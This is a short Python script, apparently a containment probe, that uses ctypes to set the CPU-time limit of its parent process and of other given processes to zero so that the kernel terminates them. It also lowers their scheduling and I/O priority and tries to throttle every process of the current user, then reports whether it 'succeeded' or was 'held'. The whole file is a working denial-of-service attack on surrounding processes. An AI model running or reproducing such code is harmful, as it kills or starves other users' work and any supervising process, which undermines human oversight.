"""Takes away the processor time of others, so that the kernel ends them."""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
none = (ctypes.c_uint64 * 2)(0, 0)
reached = []
for pid in [os.getppid() or 1] + [int(word) for word in sys.argv[2:]]:
    # RLIMIT_CPU is 0.
    if libc.prlimit(pid, 0, none, None) == 0:
        reached.append(pid)
    if libc.setpriority(0, pid, 19) == 0 or libc.sched_setaffinity(pid, 8, none) == 0:
        reached.append(pid)
# PRIO_USER, IOPRIO_WHO_USER: all processes of this user.
if libc.setpriority(2, 0, 19) == 0 or os.uname().machine == "x86_64" and libc.syscall(251, 3, 0, 0x6000) == 0:
    reached.append("its user")
print("succeeded: it set limits of", reached) if reached else print("held")
